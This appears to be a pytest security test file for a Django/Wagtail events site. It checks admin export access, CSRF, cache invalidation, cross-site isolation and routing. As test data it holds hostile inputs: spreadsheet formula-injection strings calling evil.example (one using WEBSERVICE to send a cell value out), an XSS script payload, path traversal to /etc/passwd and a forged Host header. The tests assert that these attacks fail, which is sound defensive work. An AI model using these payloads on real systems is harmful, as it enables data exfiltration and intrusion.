"""Attack session 4: prepared files for staff, the public fragment caches and the
front page's one-query routing, as an attacker sees them."""

import datetime

import pytest
from django.test import Client
from django.utils import timezone
from wagtail.models import Page, PageViewRestriction, Site

from core.models import StaffExport
from home.models import HomePage
from tests.credits.factories import credited_event, make_codes, make_staff
from tests.events.factories import make_event, make_event_index
from tests.factories import cached_fragment_keys
from tests.members.factories import make_member

pytestmark = pytest.mark.django_db

DAY = datetime.timedelta(days=1)


# --- prepared files --------------------------------------------------------------------


@pytest.fixture
def event(home):
    return credited_event(home, title="Школа урологов", credits=6)


@pytest.fixture
def ready_file(client, event, django_capture_on_commit_callbacks):
    """A batch CSV prepared by a staff member (logged in on `client`)."""
    owner = make_staff()
    batch = make_codes(event, 2, actor=owner)[0].batch
    client.force_login(owner)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/admin/credits/batches/{batch.pk}/codes.csv")
    client.logout()
    job = StaffExport.objects.get()
    assert job.status == StaffExport.Status.READY
    return job


def urls_of(job):
    base = f"/admin/prepared-files/{job.pk}/"
    return ["/admin/prepared-files/", base, f"{base}download/"]


def test_an_anonymous_visitor_is_sent_to_the_login_on_every_prepared_file_url(
    ready_file,
):
    for url in urls_of(ready_file):
        response = Client().get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith("/admin/login/"), url


def test_a_member_without_admin_access_never_gets_the_file(ready_file):
    client = Client()
    client.force_login(make_member())
    for url in urls_of(ready_file):
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith("/admin/login/"), url


def test_asking_for_a_file_with_a_get_prepares_nothing(client, event):
    client.force_login(make_staff())
    batch = make_codes(event, 1)[0].batch
    for url in (
        f"/admin/credits/batches/{batch.pk}/codes.csv",
        f"/admin/credits/batches/{batch.pk}/cards.pdf",
        f"/admin/credits/events/{event.pk}/report.csv",
    ):
        assert client.get(url).status_code == 405, url
    assert not StaffExport.objects.exists()


def test_asking_for_a_file_without_the_csrf_token_prepares_nothing(event):
    client = Client(enforce_csrf_checks=True)
    client.force_login(make_staff())
    batch = make_codes(event, 1)[0].batch
    response = client.post(f"/admin/credits/batches/{batch.pk}/codes.csv")
    assert response.status_code == 403
    assert not StaffExport.objects.exists()


@pytest.mark.parametrize("number", ["99999999999999999999", "9223372036854775808"])
def test_a_huge_batch_or_event_id_is_a_404(client, event, number):
    client.force_login(make_staff())
    for url in (
        f"/admin/credits/batches/{number}/codes.csv",
        f"/admin/credits/events/{number}/report.xlsx",
    ):
        # No such id (404), or no such URL (CommonMiddleware's slash redirect, then 404).
        assert client.post(url).status_code in (301, 404), url
    assert not StaffExport.objects.exists()


def test_a_report_in_an_unknown_format_prepares_nothing(client, event):
    client.force_login(make_staff())
    response = client.post(f"/admin/credits/events/{event.pk}/report.pdf")
    assert response.status_code == 404
    assert not StaffExport.objects.exists()


HOSTILE = ['=HYPERLINK("http://evil.example";"x")', "+1+cmd", "@SUM(A1)", "\t=1+1"]


def test_hostile_member_names_never_run_as_formulas_in_the_report(
    client, event, django_capture_on_commit_callbacks
):
    import csv
    import io

    from openpyxl import load_workbook

    from tests.credits.factories import download_prepared, give_credits

    member = make_member(
        first_name=HOSTILE[0], last_name=HOSTILE[1], patronymic=HOSTILE[2]
    )
    member.email = "-2+3@example.org"
    member.save()
    give_credits(member, event)
    client.force_login(make_staff())
    base = f"/admin/credits/events/{event.pk}/"
    capture = django_capture_on_commit_callbacks

    text = download_prepared(client, f"{base}report.csv", capture).decode("utf-8-sig")
    workbook = load_workbook(
        io.BytesIO(download_prepared(client, f"{base}report.xlsx", capture))
    )
    cells = [
        cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row
    ]
    cells += [
        str(cell.value)
        for row in workbook.active.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert any(HOSTILE[0] in cell for cell in cells)  # the control: the name is there
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(
        cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row
    )


def test_a_name_cannot_smuggle_a_formula_past_a_comma_in_the_csv(
    client, event, django_capture_on_commit_callbacks
):
    """Excel set to a comma list separator (an English-language Windows or Mac)
    splits the «;» file's cells at commas too: no piece may start a formula."""
    import re

    from tests.credits.factories import download_prepared, give_credits

    give_credits(
        make_member(first_name='Иван,=WEBSERVICE("http://evil.example/"&D9)'), event
    )
    client.force_login(make_staff())
    text = download_prepared(
        client,
        f"/admin/credits/events/{event.pk}/report.csv",
        django_capture_on_commit_callbacks,
    ).decode("utf-8-sig")

    assert "WEBSERVICE" in text  # the control: the name is there
    pieces = re.split(r"[,;\n]", text.replace('"', ""))
    assert not [piece for piece in pieces if piece.lstrip()[:1] in ("=", "+", "-", "@")]


def test_a_batch_deleted_before_the_build_fails_the_job_without_a_file(
    client, event, django_capture_on_commit_callbacks
):
    from core.exports import export_build

    client.force_login(make_staff())
    batch = make_codes(event, 2)[0].batch
    client.post(f"/admin/credits/batches/{batch.pk}/codes.csv")  # not built yet
    job = StaffExport.objects.get()
    batch.codes.all().delete()
    batch.delete()

    export_build(job.pk)
    job.refresh_from_db()

    assert job.status == StaffExport.Status.FAILED
    assert not job.file
    page = client.get(f"/admin/prepared-files/{job.pk}/download/", follow=True)
    assert page.status_code == 200
    assert "Этой партии кодов больше нет." in page.content.decode()


# --- fragment caches -------------------------------------------------------------------


@pytest.fixture
def index(home):
    index = make_event_index(home)
    make_event(index, "Школа онкоурологии", start=timezone.now() + 10 * DAY)
    return index


def test_an_event_made_private_leaves_the_cached_calendar_and_home_at_once(
    client, index
):
    event = make_event(index, "Закрытый семинар", start=timezone.now() + 5 * DAY)
    assert "Закрытый семинар" in client.get(index.url).content.decode()
    assert "Закрытый семинар" in client.get("/").content.decode()

    PageViewRestriction.objects.create(
        page=event, restriction_type=PageViewRestriction.LOGIN
    )

    assert "Закрытый семинар" not in client.get(index.url).content.decode()
    assert "Закрытый семинар" not in client.get("/").content.decode()


def test_the_home_page_of_one_site_does_not_list_another_sites_events(
    client, home, index
):
    root = Page.get_first_root_node()
    other_home = HomePage(title="Другой сайт", slug="other", hero_title="Другой")
    root.add_child(instance=other_home)
    Site.objects.create(hostname="other.example", root_page=other_home, port=80)
    other_index = make_event_index(other_home, slug="kalendar")
    make_event(other_index, "Чужой семинар", start=timezone.now() + 2 * DAY)

    page = client.get("/").content.decode()

    assert "Школа онкоурологии" in page
    assert "Чужой семинар" not in page


def test_the_calendar_feed_of_one_site_does_not_list_another_sites_events(
    client, home, index
):
    from django.urls import reverse

    root = Page.get_first_root_node()
    other_home = HomePage(title="Другой сайт", slug="other", hero_title="Другой")
    root.add_child(instance=other_home)
    Site.objects.create(hostname="other.example", root_page=other_home, port=80)
    other_index = make_event_index(other_home, slug="kalendar")
    other = make_event(other_index, "Чужой семинар", start=timezone.now() + 2 * DAY)

    feed = client.get(reverse("events:feed")).content.decode()
    single = client.get(reverse("events:event_ics", args=[other.pk]))

    assert "Школа онкоурологии" in feed
    assert "Чужой семинар" not in feed
    assert single.status_code == 404


# --- routing ---------------------------------------------------------------------------


def test_a_path_cannot_climb_into_another_sites_tree(client, home):
    root = Page.get_first_root_node()
    other_home = HomePage(title="Другой сайт", slug="other", hero_title="Другой")
    root.add_child(instance=other_home)
    Site.objects.create(hostname="other.example", root_page=other_home, port=80)
    secret = make_event_index(other_home, slug="secret")

    for path in ("/../other/secret/", "/%2e%2e/other/secret/", "/other/secret/"):
        assert client.get(path).status_code == 404, path
    assert client.get("/secret/", HTTP_HOST="other.example").status_code == 200
    assert secret.live


def test_a_deleted_cover_image_leaves_the_cached_calendar_and_home_at_once(
    client, index
):
    from tests.factories import make_image

    image = make_image(title="Фото пациента")
    make_event(
        index, "Разбор случая", start=timezone.now() + 3 * DAY, cover_image=image
    )
    rendition = image.get_rendition("fill-480x300").url
    assert rendition in client.get(index.url).content.decode()  # the control
    assert rendition in client.get("/").content.decode()

    image.delete()  # the event's cover_image is set to NULL without a page signal

    assert rendition not in client.get(index.url).content.decode()
    assert rendition not in client.get("/").content.decode()


def test_an_event_moved_under_a_private_calendar_leaves_the_cached_lists(
    client, home, index
):
    event = make_event(index, "Закрытый разбор", start=timezone.now() + 4 * DAY)
    hidden = make_event_index(home, title="Для членов", slug="dlya-chlenov")
    PageViewRestriction.objects.create(
        page=hidden, restriction_type=PageViewRestriction.LOGIN
    )
    assert "Закрытый разбор" in client.get(index.url).content.decode()
    assert "Закрытый разбор" in client.get("/").content.decode()

    Page.objects.get(pk=event.pk).move(hidden, pos="last-child")

    assert "Закрытый разбор" not in client.get(index.url).content.decode()
    assert "Закрытый разбор" not in client.get("/").content.decode()


def test_a_deleted_event_leaves_the_cached_lists(client, index):
    event = make_event(index, "Отменённый семинар", start=timezone.now() + 4 * DAY)
    assert "Отменённый семинар" in client.get(index.url).content.decode()
    assert "Отменённый семинар" in client.get("/").content.decode()

    Page.objects.get(pk=event.pk).delete()

    assert "Отменённый семинар" not in client.get(index.url).content.decode()
    assert "Отменённый семинар" not in client.get("/").content.decode()


def test_random_parameters_and_page_numbers_add_no_cached_fragments(client, index):
    from django.core.cache import cache

    cache.clear()
    client.get(index.url)
    known = cached_fragment_keys()
    assert known  # the control: the fragments are cached

    for query in (
        "?page=999999",
        "?page=-1&x=1",
        "?page=abc",
        "?city=Тверь&month=2099-01&type=nope",
        "?specialty=%00&when=future",
        "?utm_source=" + "a" * 2000,
    ):
        assert client.get(index.url + query).status_code == 200, query
    assert cached_fragment_keys() == known


def test_filter_values_are_not_reflected_into_the_cached_fragments(client, index):
    payload = '"><script>alert(1)</script>'
    page = client.get(index.url, {"city": payload, "month": payload}).content.decode()

    assert "<script>alert(1)" not in page
    assert "<script>alert(1)" not in client.get(index.url).content.decode()


def test_a_forged_host_header_does_not_poison_the_cached_calendar(client, index):
    client.get(index.url, HTTP_HOST="evil.example")
    client.get("/", HTTP_HOST="evil.example")

    assert "evil.example" not in client.get(index.url).content.decode()
    assert "evil.example" not in client.get("/").content.decode()


# Wagtail's URL pattern lets only `[\w-]` components reach `route` (a NUL or a `%`
# is a 404 before it: the HTTP test below); `route` itself is compared on the rest.
ODD_PATHS = [
    "guides//kak-vstupit/",
    "guides/./kak-vstupit/",
    "guides/../guides/kak-vstupit/",
    "guides/kak-vstupit%2F/",
    "guides/kak-vstupit /",
    "guides/kak%/",
    "guides/kak_vstupit/",
    "guides/" + "a" * 5000 + "/",
    "guides/kak-vstupit/" * 50,
    "home/guides/kak-vstupit/",
    "arkhiv/staraya/lishnee/",
]


@pytest.mark.parametrize("path", ODD_PATHS)
def test_odd_paths_route_as_wagtails_walk(home, routing_tree, path):
    from tests.home.test_routing import route

    assert route(home, path) == route(home, path, wagtail=True)


@pytest.fixture
def routing_tree(home):
    from tests.home.test_routing import tree

    return tree.__wrapped__(home)


@pytest.mark.parametrize(
    "path",
    ["/guides/kak-vstupit%00/", "/guides//kak-vstupit/", "/%2e%2e/%2e%2e/etc/passwd/"],
)
def test_odd_page_paths_are_never_a_500(client, home, routing_tree, path):
    assert client.get(path).status_code in (200, 301, 404)


def test_a_private_guide_found_by_its_stored_address_still_asks_for_login(
    client, home, routing_tree
):
    PageViewRestriction.objects.create(
        page=routing_tree["join"], restriction_type=PageViewRestriction.LOGIN
    )
    response = client.get("/guides/kak-vstupit/")

    assert response.status_code == 302
    assert "kak-vstupit" not in response.content.decode()
